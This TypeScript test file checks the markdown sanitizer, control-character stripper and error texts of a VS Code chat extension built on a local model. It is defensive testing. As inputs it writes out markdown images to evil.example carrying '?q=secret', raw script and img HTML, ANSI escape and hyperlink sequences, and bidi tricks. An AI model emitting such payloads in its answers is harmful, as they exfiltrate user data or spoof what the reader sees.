import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { LlmError } from '../../../../src/core/llm/errors';
import { InvalidHostError } from '../../../../src/core/llm/hostPolicy';
import { toHistory } from '../../../../src/vscode/chat/chatHistory';
import {
  brokenTargetsNote,
  explainText,
  modelsText,
  progressMessage,
  targetSettingsHealth,
  targetsText,
} from '../../../../src/vscode/chat/chatTexts';
import { describeChatError } from '../../../../src/vscode/errors/errorPresenterLogic';
import { escapeMarkdown, MarkdownSanitizer, sanitizeMarkdown } from '../../../../src/vscode/chat/markdownSanitizer';
import { ControlStripper, stripControls } from '../../../../src/core/text/controls';
import { forgetOriginals, originalOf, rememberOriginal } from '../../../../src/vscode/preview/originals';
import { pullProgressText } from '../../../../src/vscode/setup/modelCommandsLogic';

/** Feeds the text in every possible two-piece split and in single characters: the output must not depend on chunking. */
function streamed(text: string): string[] {
  const outs: string[] = [];
  for (let cut = 0; cut <= text.length; cut++) {
    const s = new MarkdownSanitizer();
    outs.push(s.push(text.slice(0, cut)) + s.push(text.slice(cut)) + s.end());
  }
  const s = new MarkdownSanitizer();
  outs.push([...text].map((c) => s.push(c)).join('') + s.end());
  return outs;
}

/**
 * A CommonMark renderer as permissive as any that could show the answer (raw HTML on, URLs linkified),
 * so tests check what would render, not only the escaped text. markdown-it comes with @vscode/vsce.
 */
const markdownIt = createRequire(__filename)('markdown-it') as (options: object) => { render(md: string): string };
const renderer = markdownIt({ html: true, linkify: true });
const render = (md: string) => renderer.render(md);

const ESC = '\u001b';
const BIDI = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c'];

describe('MarkdownSanitizer', () => {
  test('no image, link, autolink or HTML survives, however the text is chunked', () => {
    const attack =
      'See ![x](https://evil.example/p.png?q=secret) and [click](http://evil.example) or <img src="https://evil.example/a"> www.evil.example <https://evil.example>\n';
    for (const out of streamed(attack)) {
      // Every bracket escaped (no link or image can form), no raw tag, no URL an autolinker finds.
      assert.doesNotMatch(out, /(?<!\\)[[\]]|<|https?:\/\/|www\.evil/, out);
      assert.match(out, /\\\[click\\\]/);
    }
  });

  test('code keeps its text; an unclosed fence is closed so our notes stay outside it', () => {
    const text = 'Use `a[0] <b>` here.\n```ts\nconst x = a[0] < 1; // http://x\n';
    for (const out of streamed(text)) {
      assert.ok(out.includes('`a[0] <b>`'), out);
      assert.ok(out.includes('const x = a[0] < 1; // http://x\n'), out);
      assert.ok(out.trimEnd().endsWith('```'), out);
    }
  });

  test('a fence closed by the model is not closed twice, and its info string is cleaned', () => {
    assert.equal(sanitizeMarkdown('```js onload=x\ncode\n```\nafter'), '```\ncode\n```\nafter');
    assert.equal(sanitizeMarkdown('```python\nprint(1)\n```\n'), '```python\nprint(1)\n```\n');
  });

  test('markers render bold with their brackets escaped, also when split across chunks', () => {
    for (const out of streamed('He works on [redacted: Project Falcon] daily.')) {
      assert.equal(out, 'He works on **\\[redacted: Project Falcon\\]** daily.');
    }
  });

  test('entities cannot form: &#...; and &name; render as written, not as the character', () => {
    const text = 'Hidden: &#8238;txet&#x202E; and &lt;img src=x&gt; &amp; &copy; A&B\n';
    for (const out of streamed(text)) {
      assert.doesNotMatch(out, /&(?!amp;|lt;|gt;)/, out);
      const html = render(out);
      assert.ok(!html.includes('\u202e') && !html.includes('<img'), html);
      assert.ok(html.includes('&amp;#8238;txet&amp;#x202E;'), html);
      assert.ok(html.includes('&amp;lt;img src=x&amp;gt; &amp;amp; &amp;copy; A&amp;B'), html);
    }
    // A backslash before & stays a backslash: the text reads as the model wrote it.
    assert.ok(render(sanitizeMarkdown('a \\&#91; b')).includes('a \\&amp;#91; b'));
  });

  test('raw HTML never renders as HTML, inline or as a block', () => {
    const text =
      '<div onclick="x()">\n<script>alert(1)</script>\n<!-- hidden -->\nok <span style="display:none">secret</span> <https://evil.example>\n';
    for (const out of streamed(text)) {
      const html = render(out);
      assert.doesNotMatch(html, /<(?!\/?p>)/, html);
    }
  });

  test('C0/C1 controls and DEL are removed; tab and newline stay', () => {
    const text = `a\u0000b\u0007c\u0008d\u000be\u000cf\u007fg\u0085h\u009ci\tj\r\nk\rl\n`;
    for (const out of streamed(text)) assert.equal(out, 'abcdefghi\tj\nkl\n');
  });

  test('ANSI escape sequences go whole: colours, cursor moves, clear screen, titles, hyperlinks', () => {
    const text = `${ESC}[31mred${ESC}[0m ${ESC}[2J${ESC}[H${ESC}]0;pwned title${ESC}\\ ${ESC}]8;;https://evil.example${ESC}\\link${ESC}]8;;${ESC}\\ ${ESC}]2;t2\u0007${ESC}c${ESC}(B \u009b1;31mC1\u009dtitle\u0007 done\n`;
    for (const out of streamed(text)) assert.equal(out, 'red  link  C1 done\n');
  });

  test('an escape sequence cut off by the end of the answer loses only its introducer', () => {
    assert.equal(sanitizeMarkdown(`text ${ESC}]0;no terminator`), 'text \\]0;no terminator');
    assert.equal(sanitizeMarkdown(`text ${ESC}[12`), 'text \\[12');
  });

  test('bidi controls are removed, so an answer cannot reorder itself on screen', () => {
    const text = `abc${BIDI.join('x')}def [redacted: Fal\u202econ]\n`;
    for (const out of streamed(text)) {
      assert.ok(!BIDI.some((c) => out.includes(c)), JSON.stringify(out));
      assert.equal(out, `abc${'x'.repeat(BIDI.length - 1)}def **\\[redacted: Falcon\\]**\n`);
    }
  });

  test('a carriage return cannot end a line the sanitizer does not see: no fence closes early, no image escapes it', () => {
    const text = '```\ncode\r```\r![x](https://evil.example/p.png)\n```\nafter ![y](https://evil.example/q.png)\n';
    for (const out of streamed(text)) {
      const html = render(out);
      assert.doesNotMatch(html, /<img|<a /, html);
    }
  });

  test('whatever the fences, our text after the answer stays outside code and renders', () => {
    const attacks = [
      '```\nunclosed',
      '````\n```\nstill code',
      '~~~\n```\n',
      '```js\ncode\n```\n```',
      '- ```\n  ```\n![x](https://evil.example/a.png)',
      '> ```\n```\n![x](https://evil.example/a.png)',
      '``` a`b\ncode\n',
      '  ```\n    ```\n',
      'text `unclosed span',
      '<pre>\n',
      '\\',
    ];
    for (const attack of attacks) {
      for (const out of streamed(attack)) {
        const html = render(`${out}\n\n_our note_ [button](command:unlearn.showLog)`);
        assert.match(
          html,
          /<em>our note<\/em> <a href="command:unlearn\.showLog">button<\/a>/,
          `${JSON.stringify(attack)} → ${JSON.stringify(out)}\n${html}`,
        );
        assert.doesNotMatch(html.replace('<a href="command:unlearn.showLog">', ''), /<img|<a |<pre>(?![\s\S]*<\/pre>)/, html);
      }
    }
  });

  test('an unmatched backtick shows as a backtick and cannot pair with one on a later line', () => {
    const text = 'a ``` b [x](https://evil.example)\nc ``` d\n';
    for (const out of streamed(text)) {
      assert.equal(out, 'a \\`\\`\\` b \\[x\\](https:\\/\\/evil.example)\nc \\`\\`\\` d\n');
      assert.equal(render(out), '<p>a ``` b [x](https://evil.example)\nc ``` d</p>\n');
    }
  });

  test('ordinary markdown still renders', () => {
    assert.equal(sanitizeMarkdown('# Title\n- **bold** and _em_\n1. item'), '# Title\n- **bold** and _em_\n1. item');
  });

  test('partial lines are released early at spaces, so the answer streams', () => {
    const s = new MarkdownSanitizer();
    assert.equal(s.push('Paris is the capital'), 'Paris is the ');
    assert.equal(s.push(' of France.'), 'capital of ');
    assert.equal(s.end(), 'France.');
  });
});

describe('ControlStripper', () => {
  test('the output does not depend on chunking, also for sequences split across chunks', () => {
    const text = `x${ESC}[1;2;3;4;5;6Hy${ESC}]0;${'t'.repeat(50)}${ESC}\\z${ESC}(0w\u009b5Av`;
    const whole = stripControls(text);
    assert.equal(whole, 'xyzwv');
    for (let cut = 0; cut <= text.length; cut++) {
      const s = new ControlStripper();
      assert.equal(s.push(text.slice(0, cut)) + s.push(text.slice(cut)) + s.end(), whole, String(cut));
    }
  });

  test('a sequence that never ends is not waited for forever', () => {
    const s = new ControlStripper();
    assert.equal(s.push(`${ESC}]0;`), '');
    assert.equal(s.push('a'.repeat(5000)), `]0;${'a'.repeat(5000)}`);
    assert.equal(new ControlStripper().push(`${ESC}[${'1'.repeat(100)}m ok`), `[${'1'.repeat(100)}m ok`);
  });

  test('ordinary text, including non-Latin scripts and emoji, is untouched', () => {
    const text = 'Grüße — שלום עולם — مرحبا — 你好 — 🛡️\ttab\n';
    assert.equal(stripControls(text), text);
  });
});

describe('broken target settings', () => {
  test('counts each invalid entry once per settings file, and values that are not a list', () => {
    const health = targetSettingsHealth([
      {
        problems: [
          { index: 0, severity: 'error' },
          { index: 0, severity: 'error' },
          { index: 2, severity: 'error' },
          { index: 3, severity: 'warning' },
        ],
      },
      { problems: [{ index: -1, severity: 'error' }] },
      { problems: [] },
    ]);
    assert.deepEqual(health, { invalidEntries: 2, unreadableStores: 1 });
  });

  test('one short line saying what is not guarded, or nothing when all is valid', () => {
    assert.equal(brokenTargetsNote({ invalidEntries: 0, unreadableStores: 0 }), undefined);
    assert.equal(
      brokenTargetsNote({ invalidEntries: 2, unreadableStores: 0 }),
      '⚠ 2 entries of `unlearn.targets` are invalid and not guarded — see the Forget Targets view',
    );
    assert.equal(
      brokenTargetsNote({ invalidEntries: 1, unreadableStores: 0 }),
      '⚠ 1 entry of `unlearn.targets` is invalid and not guarded — see the Forget Targets view',
    );
    assert.match(
      brokenTargetsNote({ invalidEntries: 0, unreadableStores: 1 }) ?? '',
      /^⚠ `unlearn\.targets` is not a list in one settings file, so nothing in it is guarded/,
    );
    assert.match(
      brokenTargetsNote({ invalidEntries: 3, unreadableStores: 2 }) ?? '',
      /3 entries .* and `unlearn\.targets` is not a list in 2 settings files; none of these are guarded/,
    );
    for (const note of [brokenTargetsNote({ invalidEntries: 3, unreadableStores: 2 })!]) assert.doesNotMatch(note, /\n/);
  });
});

describe('chat texts', () => {
  test('progress comes from stage starts only', () => {
    assert.equal(
      progressMessage({ type: 'stage-start', stage: 'detect', message: 'Checking 2 related targets…', targets: 2 }),
      'Checking 2 related targets…',
    );
    assert.equal(progressMessage({ type: 'stage-end', stage: 'detect', ms: 3 }), undefined);
    assert.equal(progressMessage({ type: 'answer-chunk', text: 'x' }), undefined);
  });

  test('history uses the stored guarded answer and leaves slash-command turns out', () => {
    const history = toHistory([
      { kind: 'request', prompt: 'Who runs it?' },
      { kind: 'response', answer: '[redacted: Jane Roe] does.', markdown: ['**\\[redacted: Jane Roe\\]** does.'] },
      { kind: 'request', prompt: 'Falcon', command: 'forget' },
      { kind: 'response', markdown: ['Added Falcon'] },
      { kind: 'request', prompt: 'And before?' },
      { kind: 'response', markdown: ['Someone ', 'else.'] },
    ]);
    assert.deepEqual(history, [
      { role: 'user', content: 'Who runs it?' },
      { role: 'assistant', content: '[redacted: Jane Roe] does.' },
      { role: 'user', content: 'And before?' },
      { role: 'assistant', content: 'Someone else.' },
    ]);
  });

  test('explain names targets and reasons, never removed text', () => {
    const text = explainText({
      outcome: 'erased',
      answer: 'x',
      touched: [{ id: 'a', name: 'Project Falcon' }],
      redactions: [{ targetId: 'a', targetName: 'Project Falcon', start: 0, end: 5, reason: 'names the target', by: 'guard' }],
      guardActed: true,
    });
    assert.match(text, /Project Falcon/);
    assert.match(text, /names the target \(leak guard\)/);
    assert.match(explainText(undefined), /no earlier/);
    assert.match(explainText({ outcome: 'vanilla', redactions: [] }), /touched no forget target/);
  });

  test('targets and models lists', () => {
    const text = targetsText([{ label: 'w', targets: [{ id: 'a', name: 'Falcon_X', aliases: ['FX'], enabled: false }], problems: 2 }]);
    assert.match(text, /Falcon\\_X.*disabled.*"FX"/);
    assert.match(text, /2 malformed entries/);
    assert.match(targetsText([{ label: 'w', targets: [], problems: 0 }]), /No forget targets/);
    assert.match(
      modelsText('http://127.0.0.1:11434', [{ name: 'llama3.2:latest', sizeBytes: 2e9 }], 'llama3.2'),
      /llama3\.2:latest.*2\.0 GB \*\*\(in use\)\*\*/,
    );
  });

  test('escapeMarkdown neutralises names that look like markup', () => {
    assert.equal(escapeMarkdown('[a](http://b)'), '\\[a\\]\\(http:\\/\\/b\\)');
  });

  test('errors come with the fix', () => {
    const down = describeChatError(new LlmError('unreachable', 'refused'), 'http://127.0.0.1:11434', 'llama3.2');
    assert.equal(down.code, 'unreachable');
    assert.deepEqual(down.buttons[0], {
      title: 'Open unlearn.ollamaHost',
      command: 'unlearn.openSetting',
      arguments: ['unlearn.ollamaHost'],
    });
    const missing = describeChatError(new LlmError('model-missing', '404'), 'h', 'qwen3');
    assert.deepEqual(
      missing.buttons.map((b) => b.command),
      ['unlearn.pullModel', 'unlearn.selectModel'],
    );
    assert.deepEqual(missing.buttons[0]!.arguments, ['qwen3']);
    assert.equal(describeChatError(new InvalidHostError('bad host'), 'x', 'm').code, 'invalid-host');
    assert.equal(describeChatError(new Error('boom'), 'x', 'm').code, 'unknown');
  });

  test("an error's markdown renders the model name, host and server text as text: no image, no link, no HTML", () => {
    const model = 'x ![p](https://evil.example/p.png) [open](https://evil.example/)';
    const server = 'invalid model name <img src=https://evil.example/q.png> www.evil.com\n\n# Heading';
    const errors = [
      new LlmError('http', `Ollama answered HTTP 400 to the vanilla call (${model}): ${server}`),
      new LlmError('model-missing', '404'),
      new LlmError('remote-host', server),
      new LlmError('timeout', server),
      new LlmError('unreachable', server),
      new InvalidHostError(server),
    ];
    for (const error of errors) {
      const d = describeChatError(error, 'http://evil.example/<b>', model);
      const html = render(`$(error) ${d.markdown}`);
      assert.doesNotMatch(html, /<img|<a |<b>|<h1/, `${d.code}: ${html}`);
      assert.doesNotMatch(d.markdown, /\n/, d.code);
      assert.ok(!d.message.includes('\\'), `${d.code}: the plain message stays unescaped`);
    }
    const missing = describeChatError(new LlmError('model-missing', '404'), 'h', model);
    assert.match(render(missing.markdown), /x !\[p\]\(https:\/\/evil\.example\/p\.png\)/, 'the name still reads as written');
    assert.match(missing.message, /^The model x !\[p\]/);
  });

  test('pull progress', () => {
    assert.deepEqual(pullProgressText({ status: 'pulling manifest' }), { message: 'pulling manifest' });
    const p = pullProgressText({ status: 'pulling abc', completed: 5e8, total: 2e9 });
    assert.equal(p.percent, 25);
    assert.match(p.message, /500 MB of 2\.0 GB \(25%\)/);
  });
});

describe('kept originals', () => {
  test('capped, looked up by key, dropped on demand', () => {
    const first = rememberOriginal('first');
    assert.equal(originalOf(first), 'first');
    for (let i = 0; i < 25; i++) rememberOriginal(`n${i}`);
    assert.equal(originalOf(first), undefined, 'the oldest goes once more than 20 are kept');
    const last = rememberOriginal('last');
    forgetOriginals();
    assert.equal(originalOf(last), undefined);
    assert.equal(originalOf(undefined), undefined);
  });
});
